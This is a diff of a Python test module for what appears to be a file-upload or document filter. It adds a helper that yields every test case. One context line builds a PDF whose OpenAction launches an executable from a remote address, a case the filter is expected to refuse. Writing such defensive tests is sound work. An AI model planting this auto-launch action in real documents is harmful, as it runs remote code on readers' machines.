@@ -353,3 +353,9 @@ def binaries() -> Iterator[Case]:
     yield Case("A38", "launch.pdf", pdf("/OpenAction<</S/Launch/F(//192.0.2.1/x.exe)>>", more=page), REFUSE)
     yield Case("A39", "no-text.pdf", pdf(more=page), REFUSE)
     yield Case("A12", "half.pdf", pdf(more=page)[:60], REFUSE)
+
+
+def all_of_them() -> Iterator[Case]:
+    """Every case of this module."""
+    for make in (word_content, other_packages, texts, binaries):
+        yield from make()
